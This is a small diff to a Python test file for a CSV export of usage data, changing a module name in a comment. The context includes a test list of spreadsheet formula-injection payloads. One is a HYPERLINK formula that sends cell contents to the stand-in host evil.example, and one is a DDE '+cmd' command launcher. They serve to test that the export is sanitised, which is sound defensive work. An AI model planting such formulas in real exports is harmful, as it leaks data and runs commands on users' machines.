@@ -84,7 +84,7 @@ def test_the_csv_export_has_one_row_per_rollup_row(user, reported):
 
 
 # What the drill reported as model names. (A leading tab or CR cannot reach a model name: the
-# usage API strips it; missioncontrol.csv_export's own test covers those prefixes.)
+# usage API strips it; infra.csv_export's own test covers those prefixes.)
 FORMULA_MODELS = [
     '=HYPERLINK("https://evil.example/?"&A1,"x")',
     "+cmd|' /C calc'!A0",
